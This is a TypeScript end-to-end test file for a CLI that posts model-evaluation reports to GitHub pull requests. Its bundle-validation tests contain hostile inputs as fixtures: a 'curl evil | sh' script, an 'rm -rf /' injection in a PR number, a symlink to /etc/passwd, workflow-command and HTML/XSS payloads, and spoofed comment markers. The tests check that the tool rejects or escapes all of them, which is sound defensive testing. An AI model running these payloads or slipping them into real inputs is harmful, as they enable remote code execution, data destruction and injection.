/** `slipway report` end to end: the real CLI and Octokit against the OpenAPI-checked fake GitHub. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync, copyFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { runCli } from '../support/cli.js';
import { GitHubTestServer, createPull } from '../support/github/server.js';
import { commentObject } from '../support/github/state.js';

const FX = resolve('test/fixtures/report');
const BOT = 'ghs_reportBotTokenAAAAAAAAAAAAAAAAAAAAAAAA';
const READONLY = 'ghs_forkReadOnlyTokenBBBBBBBBBBBBBBBBBBBB';
const NOCHECKS = 'ghs_noChecksTokenCCCCCCCCCCCCCCCCCCCCCCCC';
const MARKER = '<!-- slipway:report model=credit-risk -->';
const HEAD = 'a1'.repeat(20);

let gh: GitHubTestServer;
let tmp: string;
let repoName = 0;
let repo: string;

const env = (token: string | undefined, extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({
  ...(token ? { GITHUB_TOKEN: token } : {}),
  GITHUB_API_URL: gh.apiUrl,
  GITHUB_SERVER_URL: 'https://github.test',
  GITHUB_REPOSITORY: `acme/${repo}`,
  GITHUB_RUN_ID: '4242',
  SLIPWAY_GITHUB_WAIT_SCALE: '0.001',
  ...extra,
});
const state = () => gh.repo('acme', repo);
const seedPr = (headSha = HEAD) => createPull(state(), gh.userObject('alice'), { title: 'Retrain credit-risk', head: 'retrain', base: 'main', head_sha: headSha }).number as number;
const ours = (pr: number) => state().commentsOf(pr).filter((c: { body: string }) => c.body.includes(MARKER));

beforeAll(async () => {
  gh = await GitHubTestServer.start();
  gh.addToken(BOT, 'github-actions[bot]', { installation: true });
  gh.addToken(READONLY, 'github-actions[bot]', { installation: true, permissions: { issues: 'read', pull_requests: 'read', checks: 'read' } });
  gh.addToken(NOCHECKS, 'github-actions[bot]', { installation: true, permissions: { checks: 'read' } });
  gh.addToken('ghp_aliceTokenDDDDDDDDDDDDDDDDDDDDDDDDDDDD', 'alice');
  tmp = mkdtempSync(join(tmpdir(), 'slipway-report-'));
});
afterAll(async () => {
  await gh.close();
  rmSync(tmp, { recursive: true, force: true });
});
beforeEach(() => {
  repo = `risk-${++repoName}`;
  gh.requests.length = 0;
  gh.violations.length = 0;
});

function passingEvaluation(): string {
  const e = JSON.parse(readFileSync(join(FX, 'evaluation.json'), 'utf8'));
  e.gates = e.gates.map((g: object) => ({ ...g, ok: true }));
  e.ok = true;
  const f = join(tmp, `pass-${repo}.json`);
  writeFileSync(f, JSON.stringify(e));
  return f;
}

describe('slipway report on a pull request', () => {
  it('fits the check run summary to 65,535 bytes, as GitHub counts it: group names in CJK are 3 bytes a character', async () => {
    const pr = seedPr();
    const e = JSON.parse(readFileSync(join(FX, 'evaluation.json'), 'utf8'));
    const row = e.fairness.sex.groups[0];
    for (let a = 0; a < 7; a++) e.fairness[`region${a}`] = { ...e.fairness.sex, groups: Array.from({ length: 50 }, (_, i) => ({ ...row, group: `${'東京都千代田区'.repeat(14)}${a}-${i}` })) };
    const f = join(tmp, `cjk-${repo}.json`);
    writeFileSync(f, JSON.stringify(e));
    const r = await runCli(['report', '--evaluation', f, '--pr', String(pr), '--sha', HEAD], tmp, env(BOT));
    expect(r.code, r.stderr).toBe(0);
    const runs = [...state().checkRuns.values()];
    expect(runs).toHaveLength(1);
    expect(Buffer.byteLength(runs[0].output.summary)).toBeLessThanOrEqual(65_535);
    expect(runs[0].output.summary).toContain("shortened to fit GitHub's 65,535-byte limit");
    expect(ours(pr)[0].body.length).toBeLessThanOrEqual(65_536);
  });

  it('five runs leave exactly one comment, updated in place, and a check run per run', async () => {
    const pr = seedPr();
    const pass = passingEvaluation();
    const out = join(tmp, `${repo}.md`);
    const results = [];
    for (let i = 0; i < 5; i++) {
      const evaluation = i === 2 || i === 4 ? pass : join(FX, 'evaluation.json');
      const args = ['report', '--evaluation', evaluation, '--validation', join(FX, 'validation.json'), '--package', join(FX, 'card.json'), '--pr', String(pr), '--sha', HEAD, '--out', out];
      results.push(await runCli(args, tmp, env(BOT)));
    }
    for (const r of results) {
      expect(r.stderr).toBe('');
      expect(r.code).toBe(0);
      expect(r.summary.startsWith(MARKER)).toBe(true);
    }
    expect(results.map((r) => r.outputs.verdict)).toEqual(['fail', 'fail', 'pass', 'fail', 'pass']);
    expect(results.map((r) => /comment (\w+)/.exec(r.stdout)?.[1])).toEqual(['created', 'unchanged', 'updated', 'updated', 'updated']);
    const comments = ours(pr);
    expect(comments).toHaveLength(1);
    expect(comments[0].user.login).toBe('github-actions[bot]');
    expect(comments[0].body).toContain('## ✅ credit-risk 1.1.0: all 5 gates pass');
    expect(comments[0].body).toContain('[Workflow run](https://github.test/acme/' + repo + '/actions/runs/4242)');
    expect(results[4].outputs['comment-url']).toBe(comments[0].html_url);
    // the job summary and --out hold the same full report
    expect(readFileSync(out, 'utf8')).toBe(results[4].summary);
    const runs = [...state().checkRuns.values()];
    expect(runs.map((c) => [c.name, c.head_sha, c.status, c.conclusion])).toEqual(
      ['failure', 'failure', 'success', 'failure', 'success'].map((c) => ['slipway/credit-risk', HEAD, 'completed', c]),
    );
    expect(runs[0].output.title).toBe('1.1.0: 2 of 5 gates failed');
    expect(runs[0].output.summary).toContain('fairness.age&#95;band.demographic&#95;parity&#95;ratio');
    expect(runs[0].details_url).toBe(`https://github.test/acme/${repo}/actions/runs/4242`);
    const seq = (from: number, to: number) =>
      gh.requests.slice(from, to).map((r) => `${r.method} ${r.template} ${r.status}`);
    expect(seq(0, 4)).toEqual([
      'GET /user 403',
      'GET /repos/{owner}/{repo}/issues/{issue_number}/comments 200',
      'POST /repos/{owner}/{repo}/issues/{issue_number}/comments 201',
      'POST /repos/{owner}/{repo}/check-runs 201',
    ]);
    expect(seq(4, 7)).toEqual(['GET /user 403', 'GET /repos/{owner}/{repo}/issues/{issue_number}/comments 200', 'POST /repos/{owner}/{repo}/check-runs 201']);
    expect(seq(7, 11)).toEqual([
      'GET /user 403',
      'GET /repos/{owner}/{repo}/issues/{issue_number}/comments 200',
      'PATCH /repos/{owner}/{repo}/issues/comments/{comment_id} 200',
      'POST /repos/{owner}/{repo}/check-runs 201',
    ]);
    expect(gh.requests).toHaveLength(4 + 3 + 4 + 4 + 4);
    expect(gh.violations).toEqual([]);
  });

  it('leaves comments with the marker by someone else alone, and finds its own past page 1', async () => {
    const pr = seedPr();
    const s = state();
    const alice = gh.userObject('alice');
    const spoof = commentObject(s, pr, alice, `${MARKER}\n## ✅ all gates pass (not really)`);
    s.comments.set(spoof.id, spoof);
    const r1 = await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', String(pr)], tmp, env(BOT));
    expect(r1.code).toBe(0);
    for (let i = 0; i < 150; i++) {
      const c = commentObject(s, pr, alice, `review ${i}`);
      s.comments.set(c.id, c);
    }
    const r2 = await runCli(['report', '--evaluation', passingEvaluation(), '--pr', String(pr)], tmp, env(BOT));
    expect(r2.stdout).toContain('comment updated');
    const marked = ours(pr);
    expect(marked.map((c: { user: { login: string } }) => c.user.login)).toEqual(['alice', 'github-actions[bot]']);
    expect(marked[0].body).toBe(`${MARKER}\n## ✅ all gates pass (not really)`);
    expect(marked[1].body).toContain('all 5 gates pass');
    expect(gh.calls('GET', '/repos/{owner}/{repo}/issues/{issue_number}/comments').map((c) => c.query.page ?? '1')).toEqual(['1', '1', '2']);
    expect(gh.violations).toEqual([]);
  });

  it('a GitHub App token comments as the identity given in SLIPWAY_GITHUB_IDENTITY', async () => {
    gh.addToken('ghs_appTokenEEEEEEEEEEEEEEEEEEEEEEEEEEEEEE', 'slipway-app[bot]', { installation: true });
    const pr = seedPr();
    const e = env('ghs_appTokenEEEEEEEEEEEEEEEEEEEEEEEEEEEEEE', { SLIPWAY_GITHUB_IDENTITY: 'slipway-app[bot]' });
    for (let i = 0; i < 2; i++) expect((await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', String(pr)], tmp, e)).code).toBe(0);
    expect(ours(pr).map((c: { user: { login: string } }) => c.user.login)).toEqual(['slipway-app[bot]']);
    expect(gh.calls('GET', '/user')).toHaveLength(0);
  });

  it('without a token: job summary only, with a notice', async () => {
    const r = await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', '1'], tmp, env(undefined));
    expect(r.code).toBe(0);
    expect(r.summary).toContain('2 of 5 gates failed');
    expect(r.stderr).toMatch(/notice: no GitHub token/);
    expect(gh.requests).toHaveLength(0);
  });

  it('a read-only token (fork pull_request run) degrades to the job summary with notices', async () => {
    const pr = seedPr();
    const r = await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', String(pr), '--sha', HEAD], tmp, env(READONLY, { GITHUB_ACTIONS: 'true' }));
    expect(r.code).toBe(0);
    expect(r.summary).toContain('2 of 5 gates failed');
    expect(r.stderr).toMatch(/::notice title=slipway report::could not comment on pull request #\d+ \(403\)/);
    expect(r.stderr).toMatch(/::notice title=slipway report::could not create the check run slipway\/credit-risk \(403\)/);
    expect(ours(pr)).toHaveLength(0);
    expect(gh.violations).toEqual([]);
  });

  it('comments but skips the check run when checks are not permitted', async () => {
    const pr = seedPr();
    const r = await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', String(pr), '--sha', HEAD], tmp, env(NOCHECKS));
    expect(r.code).toBe(0);
    expect(ours(pr)).toHaveLength(1);
    expect(r.stderr).toMatch(/notice: could not create the check run.*checks: write/);
    expect(state().checkRuns.size).toBe(0);
  });

  it('takes the check run commit from the pull_request event (not the merge commit in GITHUB_SHA)', async () => {
    const pr = seedPr();
    const event = join(tmp, `pr-event-${repo}.json`);
    writeFileSync(event, JSON.stringify({ action: 'synchronize', number: pr, pull_request: { number: pr, head: { sha: HEAD, ref: 'retrain' } } }));
    const r = await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', String(pr)], tmp, env(BOT, { GITHUB_EVENT_PATH: event, GITHUB_SHA: 'f'.repeat(40), GITHUB_ACTIONS: 'true' }));
    expect(r.code).toBe(0);
    expect([...state().checkRuns.values()].map((c) => c.head_sha)).toEqual([HEAD]);
  });

  it('retries a 502 and a secondary rate limit on the way', async () => {
    const pr = seedPr();
    gh.fail({ method: 'POST', route: '/repos/{owner}/{repo}/issues/{issue_number}/comments', status: 502 });
    gh.fail({ method: 'POST', route: '/repos/{owner}/{repo}/check-runs', kind: 'secondary', status: 429, retryAfter: 1 });
    const r = await runCli(['report', '--evaluation', join(FX, 'evaluation.json'), '--pr', String(pr), '--sha', HEAD], tmp, env(BOT));
    expect(r.code).toBe(0);
    expect(ours(pr)).toHaveLength(1);
    expect(state().checkRuns.size).toBe(1);
    expect(gh.requests.map((q) => q.status)).toEqual([403, 200, 502, 201, 429, 201]);
  });

  it('refuses bad flags and inputs with exit 2 and a precise message', async () => {
    const both = await runCli(['report', '--evaluation', 'a.json', '--bundle', 'b'], tmp, env(BOT));
    expect([both.code, both.stderr]).toEqual([2, expect.stringMatching(/exactly one of --evaluation/)]);
    const bad = join(tmp, 'bad-eval.json');
    const e = JSON.parse(readFileSync(join(FX, 'evaluation.json'), 'utf8'));
    e.data.rows = 'many';
    delete e.gates;
    writeFileSync(bad, JSON.stringify(e));
    const r = await runCli(['report', '--evaluation', bad], tmp, env(BOT));
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${bad}: /data/rows: must be integer`);
    expect(r.stderr).toContain(`${bad}: (root): must have required property 'gates'`);
    expect(r.stderr).not.toMatch(/at .*\.ts:\d+/);
    const help = await runCli(['report', '--help'], tmp, env(BOT));
    expect(help.stdout).toMatch(/--bundle <dir>/);
  });
});

describe('slipway report --bundle (fork PRs through workflow_run)', () => {
  function bundle(name: string, over: { pr?: object; evaluation?: (e: Record<string, unknown>) => void; files?: Record<string, string> } = {}): string {
    const dir = join(tmp, `bundle-${repo}-${name}`);
    mkdirSync(dir, { recursive: true });
    const e = JSON.parse(readFileSync(join(FX, 'evaluation.json'), 'utf8'));
    over.evaluation?.(e);
    writeFileSync(join(dir, 'evaluation.json'), JSON.stringify(e));
    copyFileSync(join(FX, 'validation.json'), join(dir, 'validation.json'));
    copyFileSync(join(FX, 'card.json'), join(dir, 'card.json'));
    writeFileSync(join(dir, 'pr.json'), JSON.stringify({ number: 1, head_sha: HEAD, model: 'credit-risk', ...over.pr }));
    for (const [f, text] of Object.entries(over.files ?? {})) writeFileSync(join(dir, f), text);
    return dir;
  }
  function workflowRun(pullRequests: number[], headSha = HEAD): string {
    const f = join(tmp, `wr-${repo}-${Math.random().toString(36).slice(2)}.json`);
    writeFileSync(
      f,
      JSON.stringify({
        action: 'completed',
        workflow_run: { id: 99, event: 'pull_request', head_sha: headSha, html_url: `https://github.test/acme/${repo}/actions/runs/99`, pull_requests: pullRequests.map((n) => ({ number: n, head: { sha: headSha } })) },
      }),
    );
    return f;
  }
  const wrEnv = (event: string, token = BOT) => env(token, { GITHUB_EVENT_PATH: event, GITHUB_EVENT_NAME: 'workflow_run', GITHUB_ACTIONS: 'true' });

  it('same-repo PR: number listed in the event; comments and checks the event head sha', async () => {
    const pr = seedPr();
    const r = await runCli(['report', '--bundle', bundle('ok', { pr: { number: pr } })], tmp, wrEnv(workflowRun([pr])));
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const c = ours(pr);
    expect(c).toHaveLength(1);
    expect(c[0].body).toContain('[Workflow run](https://github.test/acme/' + repo + '/actions/runs/99)');
    expect([...state().checkRuns.values()].map((x) => [x.head_sha, x.conclusion])).toEqual([[HEAD, 'failure']]);
    expect(gh.calls('GET', '/repos/{owner}/{repo}/pulls/{pull_number}')).toHaveLength(0);
    expect(gh.violations).toEqual([]);
  });

  it('fork PR (the event lists no PRs): the PR is confirmed through the API', async () => {
    const pr = seedPr();
    const r = await runCli(['report', '--bundle', bundle('fork', { pr: { number: pr } })], tmp, wrEnv(workflowRun([])));
    expect(r.code).toBe(0);
    expect(ours(pr)).toHaveLength(1);
    expect(gh.requests.map((q) => `${q.method} ${q.template}`)[0]).toBe('GET /repos/{owner}/{repo}/pulls/{pull_number}');
    expect(gh.violations).toEqual([]);
  });

  it('refuses a bundle that names another pull request', async () => {
    const victim = seedPr('b2'.repeat(20));
    const attacker = seedPr();
    // fork: the API says the victim PR is at another commit → treated as not this run's PR
    const r1 = await runCli(['report', '--bundle', bundle('spoof1', { pr: { number: victim } })], tmp, wrEnv(workflowRun([])));
    expect(r1.code).toBe(0);
    expect(r1.stderr).toMatch(/::notice.*pull request #\d+ is now at b2b2b2b2b2b2, not at the evaluated a1a1a1a1a1a1/);
    // same repo: the event lists only the attacker's PR
    const r2 = await runCli(['report', '--bundle', bundle('spoof2', { pr: { number: victim } })], tmp, wrEnv(workflowRun([attacker])));
    expect(r2.code).toBe(2);
    expect(r2.stderr).toMatch(/refused: pull request #\d+ is not among the workflow run's pull requests/);
    // head_sha in pr.json that is not what the run evaluated
    const r3 = await runCli(['report', '--bundle', bundle('spoof3', { pr: { number: attacker, head_sha: 'c3'.repeat(20) } })], tmp, wrEnv(workflowRun([attacker])));
    expect(r3.code).toBe(2);
    expect(r3.stderr).toMatch(/head_sha c3c3c3c3c3c3 is not the commit the workflow run evaluated/);
    const r4 = await runCli(['report', '--bundle', bundle('spoof4', { pr: { number: 999 } })], tmp, wrEnv(workflowRun([])));
    expect(r4.code).toBe(2);
    expect(r4.stderr).toMatch(/pull request #999 does not exist/);
    expect(ours(victim)).toHaveLength(0);
    expect(ours(attacker)).toHaveLength(0);
    expect(state().checkRuns.size).toBe(0);
    expect(gh.violations).toEqual([]);
  });

  it('rejects malformed bundles before touching GitHub', async () => {
    const cases: [string, string, RegExp][] = [
      ['oversized', bundle('big', { files: { 'evaluation.json': ' '.repeat(32 * 1024 * 1024 + 1) } }), /evaluation\.json: is 33,554,433 bytes; the limit is 33,554,432/],
      ['wrong types', bundle('types', { evaluation: (e) => Object.assign(e, { gates: [{ name: 1, observed: 'x', threshold: '>= 1', ok: 'yes' }] }) }), /bundle evaluation\.json: \/gates\/0\/name: must be string/],
      ['pr.json extra field', bundle('prx', { pr: { token: 'x' } }), /bundle pr\.json: \(root\): must NOT have additional properties 'token'/],
      ['pr number type', bundle('prn', { pr: { number: '1; rm -rf /' } }), /pr\.json: \/number: must be integer/],
      ['marker spoofing model name', bundle('marker', { pr: { model: 'credit-risk -->' }, evaluation: (e) => Object.assign(e, { model: 'credit-risk --> <!-- slipway:report model=other' }) }), /\/model: must match pattern/],
      ['model mismatch', bundle('mismatch', { pr: { model: 'other' } }), /pr\.json names model 'other' but evaluation\.json is about 'credit-risk'/],
      ['card of another version', bundle('cardv', { files: { 'card.json': JSON.stringify({ ...JSON.parse(readFileSync(join(FX, 'card.json'), 'utf8')), version: '1.0.0' }) } }), /card\.json is for version 1\.0\.0, but evaluation\.json judged candidate 1\.1\.0/],
      ['command lines in the version', bundle('version', { evaluation: (e) => Object.assign(e, { candidate: { ...(e.candidate as object), version: '1.1.0\n::add-mask::x' } }) }), /bundle evaluation\.json: \/candidate\/version: must match pattern/],
      ['a digest that is not one', bundle('digest', { evaluation: (e) => Object.assign(e, { candidate: { ...(e.candidate as object), digest: 'sha256:<img src=x>' } }) }), /bundle evaluation\.json: \/candidate\/digest: must match pattern/],
      ['champion of another model', bundle('champ', { evaluation: (e) => Object.assign(e, { champion: { ...(e.champion as object), name: 'fraud' } }) }), /bundle evaluation\.json: \/champion\/name: is 'fraud'/],
      ['extra file', bundle('extra', { files: { 'run.sh': 'curl evil | sh' } }), /unexpected entries "run\.sh"/],
      ['not JSON', bundle('json', { files: { 'validation.json': '{"ok": tru' } }), /bundle validation\.json:1:11: not valid JSON: the text ends before the JSON value does/],
      ['deep nesting', bundle('deep', { files: { 'card.json': '['.repeat(100000) + ']'.repeat(100000) } }), /card\.json: (not valid JSON|\(root\): must be object)/],
    ];
    const linked = bundle('symlink');
    rmSync(join(linked, 'validation.json'));
    symlinkSync('/etc/passwd', join(linked, 'validation.json'));
    cases.push(['symlink', linked, /unexpected entries "validation\.json" \(symbolic link\)/]);
    for (const [what, dir, msg] of cases) {
      const r = await runCli(['report', '--bundle', dir], tmp, wrEnv(workflowRun([1])));
      expect([what, r.code]).toEqual([what, 2]);
      expect(r.stderr, what).toMatch(msg);
      expect(r.stderr, what).not.toMatch(/internal error/);
    }
    expect(gh.requests).toHaveLength(0);
  });

  it('escapes markdown and HTML from the bundle in the posted comment', async () => {
    const pr = seedPr();
    const evil = '<img src=x onerror=alert(1)> [win](https://evil.example) @acme/admins <!-- slipway:report model=other --> | x';
    const dir = bundle('inject', {
      pr: { number: pr },
      evaluation: (e) => {
        (e.gates as { name: string }[])[0].name = evil;
        (e.data as { uri: string }).uri = evil;
        (e.fairness as Record<string, { groups: { group: string }[] }>).sex.groups[0].group = evil;
      },
    });
    const r = await runCli(['report', '--bundle', dir], tmp, wrEnv(workflowRun([pr])));
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const body: string = ours(pr)[0].body;
    expect(body).not.toMatch(/<img|\]\(https:\/\/evil|@acme\/admins|<!-- slipway:report model=other/);
    expect(body.match(/<!-- slipway:report /g)).toHaveLength(1);
    expect(body).toContain('&#60;img src=x onerror=alert&#40;1&#41;&#62;');
    const check = [...state().checkRuns.values()][0];
    expect(check.output.summary).not.toMatch(/<img|@acme\/admins/);
    expect(gh.violations).toEqual([]);
  });
});
